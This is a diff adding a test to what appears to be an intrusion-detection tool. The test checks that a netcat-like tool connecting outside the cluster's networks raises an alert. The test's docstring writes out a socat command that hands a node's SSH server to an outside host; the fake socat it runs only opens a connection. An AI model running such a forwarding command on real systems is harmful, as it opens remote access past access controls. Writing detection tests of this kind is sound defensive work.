@@ -571,3 +571,21 @@ def test_a_process_dressed_as_a_kernel_thread_is_alerted(stack):
     got = alerts(stack, job, {"kernel-thread-masquerade"}, states=("ALERT_ALERTED",))
     hit = next(a for a in got if a["rule_id"] == "kernel-thread-masquerade")
     assert hit["matched"]["argv_regex"].startswith("[kworker")                 # what the rule saw in argv[0]
+
+
+def test_a_netcat_reaching_outside_the_cluster_is_alerted(stack):
+    """`socat TCP:outside:443 TCP:127.0.0.1:22` hands the node's sshd to someone outside; its argv says nothing a
+    reverse-shell rule knows. Whom a netcat-like tool reaches does: outside this site's networks."""
+    job = new_job()
+    cg = job_cgroup(stack, job, "step_0")
+    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
+    socat = stack["tmp"] / "bin" / "socat"
+    socat.parent.mkdir(exist_ok=True)
+    socat.write_text(f"#!{PYTHON}\nimport socket, sys\ntry:\n    socket.create_connection((sys.argv[1], 443), "
+                     "timeout=3).close()\nexcept OSError:\n    pass\n")
+    socat.chmod(0o755)
+    with netns_peer() as ns:
+        assert run_in_cgroup(cg, [str(socat), ns.ns_ip], timeout=30).returncode == 0
+        got = alerts(stack, job, {"netcat-connect-out"})
+    hit = next(a for a in got if a["rule_id"] == "netcat-connect-out")
+    assert hit["matched"]["daddr_not_in"] == ns.ns_ip and hit["matched"]["exe_name_in"] == "socat"
